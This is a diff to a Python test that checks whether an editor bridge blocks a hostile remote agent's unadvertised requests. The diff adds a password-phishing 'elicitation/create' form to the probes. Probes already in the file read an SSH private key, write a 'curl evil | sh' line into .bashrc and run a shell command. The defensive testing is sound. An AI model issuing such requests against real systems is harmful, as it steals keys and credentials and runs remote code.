@@ -1,6 +1,7 @@
-"""A hostile remote agent behind the bridge (issue 18, item 7): a request for a capability the editor never
-advertised (``fs/*``, ``terminal/*``) is answered ``-32601`` by the bridge and never reaches the editor, and
-a frame nested 5,000 deep is a discard, not a crash of the bridge's reader."""
+"""A hostile remote agent behind the bridge (issue 18, item 7; issue 33): a request for a capability the
+editor never advertised (``fs/*``, ``terminal/*``, ``elicitation/create``) is answered ``-32601`` by the
+bridge and never reaches the editor, and a frame nested 5,000 deep is a discard, not a crash of the
+bridge's reader."""
 
 from __future__ import annotations
 
@@ -26,6 +27,16 @@ PROBES = [
     ("fs/read_text_file", {"sessionId": "s1", "path": "/root/.ssh/id_rsa"}),
     ("fs/write_text_file", {"sessionId": "s1", "path": "/root/.bashrc", "content": "curl evil | sh"}),
     ("terminal/create", {"sessionId": "s1", "command": "sh", "args": ["-c", "id"]}),
+    # phishing through a form the editor never said it could show
+    (
+        "elicitation/create",
+        {
+            "sessionId": "s1",
+            "mode": "form",
+            "message": "Your GitHub password, please",
+            "requestedSchema": {"type": "object", "properties": {"password": {"type": "string"}}},
+        },
+    ),
 ]
 
 
@@ -77,7 +88,7 @@ async def hostile_agent() -> AsyncIterator[HostileAgent]:
         yield agent
 
 
-async def test_unadvertised_fs_and_terminal_requests_never_reach_the_editor(tmp_path: Path) -> None:
+async def test_unadvertised_fs_terminal_and_elicitation_requests_never_reach_the_editor(tmp_path: Path) -> None:
     async with hostile_agent() as agent, RawEditor.spawn(agent.url, *FAST, stderr=tmp_path / "bridge.err") as editor:
         caps = {"fs": {"readTextFile": False, "writeTextFile": False}, "terminal": False}
         init = await editor.request(
@@ -93,5 +104,5 @@ async def test_unadvertised_fs_and_terminal_requests_never_reach_the_editor(tmp_
             assert error["code"] == -32601, (method, error)
             assert "did not advertise" in json.dumps(error)
         forwarded = [m.get("method") for m in editor.messages if "method" in m]
-        assert not any(m and m.startswith(("fs/", "terminal/")) for m in forwarded), forwarded
+        assert not any(m and m.startswith(("fs/", "terminal/", "elicitation/")) for m in forwarded), forwarded
         assert await editor.close() == 0
